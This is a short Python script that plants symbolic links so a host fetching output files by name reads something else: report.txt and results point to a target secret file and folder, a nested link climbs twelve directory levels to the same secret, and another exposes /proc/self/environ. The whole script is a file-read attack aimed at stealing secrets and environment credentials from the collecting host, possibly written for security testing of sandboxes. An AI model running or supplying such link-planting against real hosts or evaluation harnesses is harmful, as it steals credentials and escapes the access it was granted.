# Plants links where the host will fetch a file by name.
import os

os.symlink(TARGET["secret_file"], "report.txt")
os.symlink(TARGET["folder"], "results")
os.makedirs("deep")
os.symlink("../" * 12 + TARGET["secret_file"].lstrip("/"), "deep/report.txt")
os.symlink("/proc/self/environ", "environ")
print("planted")
